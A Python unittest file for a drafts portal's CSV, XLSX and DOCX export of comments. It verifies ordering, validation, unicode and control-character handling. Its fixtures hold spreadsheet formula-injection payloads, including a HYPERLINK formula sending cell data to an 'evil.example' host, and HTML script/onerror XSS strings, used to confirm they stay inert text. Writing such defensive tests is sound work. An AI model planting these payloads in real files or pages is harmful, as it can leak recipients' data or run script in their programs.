"""Issue 22, Behaviour 6: a round's compiled comments as CSV, XLSX and
DOCX, each file read back as a recipient's program reads it, cells and
order; formulas, control characters and markup stay text; unicode; an
empty round (the responses table and the translations:
test_export_table.py)."""

from collab.portal.drafts import export
from collab.portal.drafts.export import ExportHeader
from collab.portal.drafts.export import ExportRow
from collab.portal.drafts.export import InvalidExport
from datetime import datetime
from drafts.export_helpers import docx_xml
from drafts.export_helpers import HEADER
from drafts.export_helpers import P3
from drafts.export_helpers import read_csv
from drafts.export_helpers import read_docx
from drafts.export_helpers import read_xlsx
from drafts.export_helpers import round_row
from drafts.export_helpers import round_rows
from drafts.export_helpers import xlsx_sheet_xml
import unittest


ENGLISH_HEADERS = [
    "Paragraph",
    "Paragraph text",
    "Kind",
    "Depth",
    "Text",
    "Proposed wording",
    "Author",
    "Organisation",
    "Country",
    "Date",
    "Disposition",
    "Response",
]
FIRST = [
    "3",
    P3,
    "Comment",
    "0",
    "Every year would be better.",
    "",
    "Ana Pérez",
    "Ministry of Environment",
    "Spain",
    "5 March 2030, 14:00 UTC",
    "Accepted in part",
    "Kept at two years, see 3.",
]
INJECTIONS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)")
UNICODE = ("نقترح حذف هذه الفقرة", "我们建议删除本段。", "Ça a été déjà évoqué, señor.")
CONTROL = "Tab\tkept, bell\x07 and null\x00 dropped\x1b."
CONTROL_CLEAN = "Tab\tkept, bell and null dropped."
SCRIPT = '<script>alert("x")</script><b>bold</b> & <img src=x onerror=alert(1)>'


class TestRows(unittest.TestCase):
    def test_dicts_and_rows_give_the_same_file(self):
        rows = round_rows()
        as_dicts = [
            {name: getattr(r, name) for name in export.FIELD_NAMES} for r in rows
        ]
        self.assertEqual(
            export.export_csv(as_dicts, HEADER, "en"),
            export.export_csv(rows, HEADER, "en"),
        )

    def test_none_is_empty_and_numbers_are_text(self):
        made = round_row(paragraph_number=12, organisation=None, disposition=None)
        self.assertEqual(made.paragraph_number, "12")
        self.assertEqual((made.organisation, made.disposition), ("", ""))

    def test_bad_rows_refused_with_a_message(self):
        cases = {
            "kind": {"kind": "opinion"},
            "disposition": {"disposition": "rejected"},
            "naive date": {"date": datetime(2030, 3, 5, 14, 0)},
            "reply at depth 0": {"kind": "reply", "depth": 0},
            "comment at depth 1": {"depth": 1},
            "negative depth": {"kind": "reply", "depth": -1},
            "text not text": {"text": ["a"]},
        }
        for name, values in cases.items():
            with self.subTest(name), self.assertRaises(InvalidExport) as caught:
                round_row(**values)
            self.assertTrue(caught.exception.message.default, name)
        self.assertEqual(caught.exception.message.mapping["field"], "text")
        with self.assertRaises(InvalidExport) as caught:
            ExportRow.from_dict({"paragraph_numbr": "3"})
        self.assertIn("paragraph_numbr", caught.exception.message.mapping["field"])
        with self.assertRaises(InvalidExport):
            ExportRow.from_dict({"paragraph_number": "3"})

    def test_bad_header_or_format_refused(self):
        for number in (0, -1, "2", True):
            with self.subTest(number), self.assertRaises(InvalidExport):
                ExportHeader(title="T", round_number=number)
        with self.assertRaises(InvalidExport):
            ExportHeader(title="T", round_number=1, deadline=datetime(2030, 1, 1))
        for header in ({"title": "T"}, None, "Round 2"):
            for writer in export.WRITERS.values():
                with self.subTest(header), self.assertRaises(InvalidExport):
                    writer([], header, "en")
        with self.assertRaises(InvalidExport) as caught:
            export.responses_table_html([("3", "text")], "en")
        self.assertEqual(caught.exception.message.mapping["value"], "tuple")
        with self.assertRaises(InvalidExport) as caught:
            export.export([], HEADER, "pdf", "en")
        self.assertEqual(caught.exception.message.mapping["format"], "pdf")

    def test_header_text_or_none(self):
        header = ExportHeader(title=None, round_number=1, language=None)
        self.assertEqual((header.title, header.language), ("", ""))
        for name in ("title", "language"):
            values = {"title": "T", "round_number": 1, name: 3}
            with self.subTest(name), self.assertRaises(InvalidExport) as caught:
                ExportHeader(**values)
            self.assertEqual(caught.exception.message.mapping["field"], name)

    def test_one_bad_row_writes_nothing(self):
        rows = [*round_rows(), {"kind": "comment"}]
        for writer in export.WRITERS.values():
            with self.subTest(writer.__name__), self.assertRaises(InvalidExport):
                writer(rows, HEADER, "en")

    def test_export_gives_type_and_extension(self):
        data, content_type, extension = export.export(
            round_rows(), HEADER, "xlsx", "en"
        )
        self.assertTrue(data.startswith(b"PK"))
        self.assertIn("spreadsheetml", content_type)
        self.assertEqual(extension, "xlsx")


class TestCsv(unittest.TestCase):
    def test_round_trip_cells_and_order(self):
        lines = read_csv(export.export_csv(round_rows(), HEADER, "en"))
        self.assertEqual(lines[0], ENGLISH_HEADERS)
        self.assertEqual(lines[1], FIRST)
        self.assertEqual(
            [(line[0], line[2], line[3]) for line in lines[1:]],
            [
                ("3", "Comment", "0"),
                ("3", "Reply", "1"),
                ("3", "Suggestion", "0"),
                ("7", "Comment", "0"),
                ("Whole draft", "Comment", "0"),
                ("Former paragraph 9", "Comment", "0"),
            ],
        )
        reply, suggestion = lines[2], lines[3]
        self.assertEqual(
            reply[6:10], ["Li Wei", "NDRC", "China", "5 March 2030, 15:00 UTC"]
        )
        self.assertEqual(reply[10:], ["", ""])
        self.assertEqual(suggestion[5], "The Parties shall report every year.")
        self.assertEqual(suggestion[8], "Morocco")
        self.assertEqual(lines[6][1], "A paragraph that was deleted.")
        self.assertEqual(lines[6][10], "Not accepted")

    def test_formulas_stay_text(self):
        for payload in INJECTIONS:
            rows = [
                round_row(
                    paragraph_text=payload,
                    text=payload,
                    author=payload,
                    organisation=payload,
                    kind="suggestion",
                    suggestion=payload,
                    response=payload,
                )
            ]
            line = read_csv(export.export_csv(rows, HEADER, "en"))[1]
            for column in (1, 4, 5, 6, 7, 11):
                with self.subTest(payload=payload, column=column):
                    self.assertEqual(line[column], "'" + payload)

    def test_control_characters_dropped_unicode_kept(self):
        rows = [round_row(text=CONTROL)] + [
            round_row(text=t, author=t) for t in UNICODE
        ]
        lines = read_csv(export.export_csv(rows, HEADER, "en"))
        self.assertEqual([line[4] for line in lines[1:]], [CONTROL_CLEAN, *UNICODE])
        self.assertEqual(lines[2][6], UNICODE[0])

    def test_removed_text_without_a_number(self):
        rows = [round_row(paragraph_number="", paragraph_text="Gone.", orphaned=True)]
        line = read_csv(export.export_csv(rows, HEADER, "en"))[1]
        self.assertEqual(line[:2], ["Removed text", "Gone."])
        texts = [t for _s, t in read_docx(export.export_docx(rows, HEADER, "en"))]
        self.assertEqual(texts[texts.index("Removed text") + 1], "Gone.")

    def test_empty_round_is_the_headers(self):
        self.assertEqual(
            read_csv(export.export_csv([], HEADER, "en")), [ENGLISH_HEADERS]
        )


class TestXlsx(unittest.TestCase):
    def test_round_trip_cells_and_order(self):
        data = export.export_xlsx(round_rows(), HEADER, "en")
        sheet, lines = read_xlsx(data)
        self.assertEqual(sheet.title, "Round 2")
        self.assertEqual(list(lines[0]), ENGLISH_HEADERS)
        # Paragraph numbers and depths are numbers; empty cells are None.
        expected = [3, *FIRST[1:3], 0, FIRST[4], None, *FIRST[6:]]
        self.assertEqual(list(lines[1]), expected)
        self.assertEqual(
            [line[0] for line in lines[1:]],
            [3, 3, 3, 7, "Whole draft", "Former paragraph 9"],
        )
        self.assertEqual(lines[3][5], "The Parties shall report every year.")
        self.assertTrue(sheet["A1"].font.bold)

    def test_formulas_stay_text(self):
        rows = [
            round_row(text=p, author=p, response=p, kind="suggestion", suggestion=p)
            for p in INJECTIONS
        ]
        data = export.export_xlsx(rows, HEADER, "en")
        sheet, lines = read_xlsx(data)
        self.assertNotIn("<f>", xlsx_sheet_xml(data))
        for line, payload in zip(lines[1:], INJECTIONS, strict=True):
            for column in (4, 5, 6, 11):
                self.assertEqual(line[column], "'" + payload)
        for cells in sheet.iter_rows(min_row=2):
            self.assertNotIn("f", [cell.data_type for cell in cells])

    def test_control_characters_dropped_unicode_kept(self):
        rows = [round_row(text=CONTROL)] + [
            round_row(text=t, author=t) for t in UNICODE
        ]
        _sheet, lines = read_xlsx(export.export_xlsx(rows, HEADER, "en"))
        self.assertEqual([line[4] for line in lines[1:]], [CONTROL_CLEAN, *UNICODE])
        self.assertEqual(lines[3][6], UNICODE[1])

    def test_empty_round_is_the_headers(self):
        _sheet, lines = read_xlsx(export.export_xlsx([], HEADER, "en"))
        self.assertEqual([list(line) for line in lines], [ENGLISH_HEADERS])


class TestDocx(unittest.TestCase):
    def test_title_round_line_and_sections_in_order(self):
        paragraphs = read_docx(export.export_docx(round_rows(), HEADER, "en"))
        texts = [text for _style, text in paragraphs]
        self.assertEqual(paragraphs[0], ("Title", "Draft resolution on reporting"))
        self.assertEqual(
            texts[1],
            "Compiled comments of round 2 (deadline: 20 March 2030, 18:00 UTC)",
        )
        self.assertEqual(texts[2], "Language of the draft: French")
        headings = [text for style, text in paragraphs if style == "Heading 2"]
        self.assertEqual(
            headings,
            ["Paragraph 3", "Paragraph 7", "Whole draft", "Former paragraph 9"],
        )
        start = texts.index("Paragraph 3")
        self.assertEqual(
            texts[start : start + 12],
            [
                "Paragraph 3",
                P3,
                "Comment · Ana Pérez, Ministry of Environment, Spain · "
                "5 March 2030, 14:00 UTC",
                "Every year would be better.",
                "Disposition: Accepted in part",
                "Response: Kept at two years, see 3.",
                "Reply · Li Wei, NDRC, China · 5 March 2030, 15:00 UTC",
                "We agree with Spain.",
                "Suggestion · Amina Haddad, Ministère de l'environnement, "
                "Morocco · 5 March 2030, 14:00 UTC",
                "Clearer wording.",
                "Proposed wording: The Parties shall report every year.",
                "Disposition: Accepted",
            ],
        )
        self.assertEqual(paragraphs[start + 1][0], "Quote")
        self.assertIn("A paragraph that was deleted.", texts)

    def test_replies_are_indented(self):
        from docx import Document
        import io

        data = export.export_docx(round_rows(), HEADER, "en")
        document = Document(io.BytesIO(data))
        reply = next(p for p in document.paragraphs if p.text == "We agree with Spain.")
        comment = next(
            p for p in document.paragraphs if p.text == "Every year would be better."
        )
        self.assertGreater(reply.paragraph_format.left_indent or 0, 0)
        self.assertIsNone(comment.paragraph_format.left_indent)

    def test_markup_stays_text(self):
        rows = [round_row(text=SCRIPT, kind="suggestion", suggestion=SCRIPT)]
        data = export.export_docx(rows, ExportHeader(SCRIPT, 1), "en")
        texts = [text for _style, text in read_docx(data)]
        self.assertEqual(texts[0], SCRIPT)
        self.assertIn(SCRIPT, texts)
        self.assertIn("Proposed wording: " + SCRIPT, texts)
        xml = docx_xml(data)
        self.assertNotIn("<script", xml)
        self.assertNotIn("<img", xml)
        self.assertIn("&lt;script&gt;", xml)

    def test_control_characters_dropped_unicode_kept(self):
        rows = [round_row(text=CONTROL)] + [
            round_row(text=t, author=t) for t in UNICODE
        ]
        title = "Proyecto\x0b de resolución " + UNICODE[0]
        texts = [
            t
            for _s, t in read_docx(
                export.export_docx(rows, ExportHeader(title, 1), "en")
            )
        ]
        self.assertEqual(texts[0], "Proyecto de resolución " + UNICODE[0])
        self.assertIn(CONTROL_CLEAN, texts)
        for text in UNICODE:
            self.assertIn(text, texts)
        self.assertTrue(any(t.startswith("Comment · " + UNICODE[1]) for t in texts))

    def test_empty_round_says_so(self):
        texts = [t for _s, t in read_docx(export.export_docx([], HEADER, "en"))]
        self.assertEqual(texts[-1], "No comments were made in this round.")

    def test_round_without_deadline_or_language(self):
        header = ExportHeader(title="T", round_number=1)
        texts = [t for _s, t in read_docx(export.export_docx([], header, "en"))]
        self.assertEqual(texts, ["T", "Compiled comments of round 1", texts[-1]])
